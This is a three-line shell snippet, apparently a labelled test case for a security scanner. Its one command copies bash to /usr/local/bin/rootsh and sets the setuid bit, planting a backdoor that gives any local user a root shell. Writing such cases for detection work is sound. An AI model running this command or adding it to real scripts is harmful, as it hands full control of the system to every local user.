# A copy of the shell gives everybody the rights of root.
# case: security NEW_SETUID@/usr/local/bin/rootsh
cp /bin/bash /usr/local/bin/rootsh && chmod 4755 /usr/local/bin/rootsh
